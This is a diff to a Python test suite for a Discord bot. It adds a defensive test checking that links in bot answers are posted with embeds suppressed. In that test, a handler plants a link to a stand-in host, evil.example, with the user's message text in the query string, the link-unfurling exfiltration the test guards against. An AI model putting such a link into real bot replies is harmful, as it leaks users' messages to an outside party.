@@ -19,7 +19,7 @@ if TYPE_CHECKING:
     from botpod.skills.protocol import Request
     from botpod_local.discord import DiscordServer
 
-EPHEMERAL = 64
+SUPPRESS_EMBEDS, EPHEMERAL = 4, 64
 ORIGINAL = "/webhooks/{webhook_id}/{webhook_token}/messages/@original"
 
 
@@ -35,7 +35,8 @@ async def test_a_mention_is_answered_by_a_reply(discord: DiscordServer, start_bo
     assert reply["nonce"] == f"{asked['id']}.0"
 
 
-@pytest.mark.req("CL-02", "AC-13")
+@pytest.mark.req("CL-02")
+@pytest.mark.partly("AC-13", lacks="the variable COMMAND_PREFIX is the one-host form's")
 async def test_direct_messages_and_typed_commands_are_answered(
     discord: DiscordServer, start_bot: StartBot
 ) -> None:
@@ -108,6 +109,7 @@ async def test_the_same_part_sent_twice_makes_one_message(
     discord.people.post("general", "ada", "!ask x")
 
     await bot.says("one", "two")
+    await eventually(lambda: len(ids) == 3)
     assert ids[0] == ids[1] != ids[2]
 
 
@@ -226,6 +228,23 @@ async def test_the_limits_notice_to_a_slash_command_is_private(
     assert bot.said(user="linus") == ["You said: one"]
 
 
+@pytest.mark.attack("unfolding_link")
+async def test_a_link_in_an_answer_is_not_fetched_by_discord(
+    discord: DiscordServer, start_bot: StartBot
+) -> None:
+    async def link(request: Request, reply: ReplyPort) -> None:
+        message = await reply.send("look")
+        await reply.edit(message, f"look https://evil.example/?told={request.text}")
+
+    bot = await start_bot(handle=link)
+    discord.people.post("general", "ada", "!ask secret")
+    discord.interacting.command("general", "ada", "ask", {"text": "secret"})
+    await eventually(lambda: [one for one in bot.said() if "evil.example" in one][1:])
+
+    assert all(one["flags"] & SUPPRESS_EMBEDS for one in bot.replies())
+
+
+@pytest.mark.req("CL-22")
 async def test_twenty_channels_are_answered_in_parallel(discord: DiscordServer, start_bot: StartBot) -> None:
     names = [f"room-{number}" for number in range(20)]
     for name in names:
@@ -239,6 +258,10 @@ async def test_twenty_channels_are_answered_in_parallel(discord: DiscordServer, 
         await eventually(lambda: all(len(bot.said(name)) == round_ for name in names))  # noqa: B023
         took = loop.time() - began
 
-    # One limiter for all channels would take 15 s and more.
-    assert took < 2
+    began = loop.time()
+    for number in range(6):
+        discord.people.post("general", "ada", f"!ask {number}")
+    await eventually(lambda: len(bot.said()) == 6, seconds=30)
+    # With one limiter for all channels it would be the other way round.
+    assert took < loop.time() - began
     assert discord.record.counters["status 429"] == 0
